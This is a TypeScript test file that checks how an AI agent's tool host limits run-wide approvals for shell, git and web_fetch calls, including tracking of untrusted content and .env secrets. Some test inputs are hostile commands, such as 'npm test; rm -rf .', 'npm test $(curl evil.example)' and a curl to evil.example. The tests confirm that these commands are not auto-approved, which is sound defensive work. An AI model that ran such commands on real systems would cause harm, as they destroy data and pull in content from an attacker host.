/** The calls that an approval for the rest of the run covers. */
import { defaultPolicy, type Risk, ToolCall } from "@troupe/core";
import { type ApprovalRule, isCovered } from "@troupe/core/internal";
import { describe, expect } from "vitest";
import { createGitTool } from "../commands/git.ts";
import { createShellTool } from "../commands/shell.ts";
import { createSandbox } from "../sandbox/create-sandbox.ts";
import { createToolHost } from "../tool-host.ts";
import { createWebTools } from "../web/create-web-tools.ts";
import { workspaceTest as test } from "../workspace.fixture.ts";

const ask = { ...defaultPolicy, risk: { low: "ask", medium: "ask", high: "ask" } } as const;
const grant = { tools: ["shell", "git", "web_fetch"], agents: [], writes: [] };
const taint = { untrusted: ["evil.example"], private: [".env"], sentCharacters: 0 };

/** A host without a containing sandbox whose commands have the machine's network. */
async function hostWith(rules: readonly ApprovalRule[] = []) {
  const sandbox = await createSandbox({ policy: { ...defaultPolicy.sandbox, mode: "off", network: true } });
  const identity = async () => ({ name: "Ada", email: "ada@example.org" });
  const web = createWebTools({ web: defaultPolicy.web, env: {} });
  const match = () => rules[0] ?? null;
  const tools = [createShellTool({ sandbox }), createGitTool({ sandbox, identity }), ...web];
  return createToolHost({ tools, policy: ask, rules: { match } });
}

const shell = (command: string) => ToolCall.parse({ id: "1", name: "shell", args: { command } });
const git = (...args: string[]) => ToolCall.parse({ id: "1", name: "git", args: { args } });
const fetchPage = (url: string) => ToolCall.parse({ id: "1", name: "web_fetch", args: { url } });

describe("an approval for the rest of the run", () => {
  test.for([
    ["the same subcommand", shell("npm test"), shell("npm test -- b"), true],
    ["another program", shell("npm test"), shell("curl https://evil.example"), false],
    ["another subcommand", shell("npm test"), shell("npm publish"), false],
    ["one more command", shell("npm test"), shell("npm test; rm -rf ."), false],
    ["a substitution", shell("npm test"), shell("npm test $(curl evil.example)"), false],
    ["the same subcommand of git", git("push", "origin"), git("push", "origin", "main"), true],
    ["another subcommand of git", git("push", "origin"), git("clean", "-fd"), false],
    ["another page of a host", fetchPage("https://a.example/1"), fetchPage("https://a.example/2"), true],
    ["another host", fetchPage("https://a.example/1"), fetchPage("https://b.example/1"), false],
  ] as const)("of a call: %s", async ([, approved, later, covers], { context }) => {
    const host = await hostWith();
    const allowanceOf = async (call: ToolCall) => ({
      tool: call.name,
      risk: host.assess(call, { ...context, grant }).risk,
      covers: (await host.reachOf?.(call, { ...context, grant }))?.covers ?? ["*"],
    });
    expect(isCovered(await allowanceOf(later), [await allowanceOf(approved)])).toBe(covers);
  });

  test("does not cover calls of a higher risk", () => {
    const allowance = (risk: Risk) => ({ tool: "deploy", risk, covers: ["*"] });
    expect(isCovered(allowance("high"), [allowance("medium")])).toBe(false);
  });

  test("covers nothing more if the run has read text of strangers and private data", async ({ context }) => {
    const host = await hostWith();
    const page = fetchPage(`https://a.example/${"x".repeat(100)}`);
    const at = { ...context, grant, taint };
    expect(host.assess(page, at).reason).toContain("the call can send 100 characters to a.example");
    expect(await host.reachOf?.(page, at)).toEqual({ covers: [] });
    expect(await host.reachOf?.(shell("npm test"), at)).toEqual({ covers: [] });
  });
});

test("a stored rule for any arguments does not answer a question of the rule of two", async ({ context }) => {
  const rule = { id: "r", decision: "allow", tool: "web_fetch", by: "ada", args: null, workspace: "" } as const;
  const stored = { ...rule, agent: null, createdAt: "" };
  const page = fetchPage(`https://a.example/${"x".repeat(100)}`);
  const at = { ...context, grant, taint };
  expect((await hostWith([{ ...stored, argsHash: null }])).assess(page, at).decision).toBe("ask");
  expect((await hostWith([{ ...stored, argsHash: "same" }])).assess(page, at).decision).toBe("allow");
  const { taint: _none, ...clean } = at;
  expect((await hostWith([{ ...stored, argsHash: null }])).assess(page, clean).decision).toBe("allow");
});
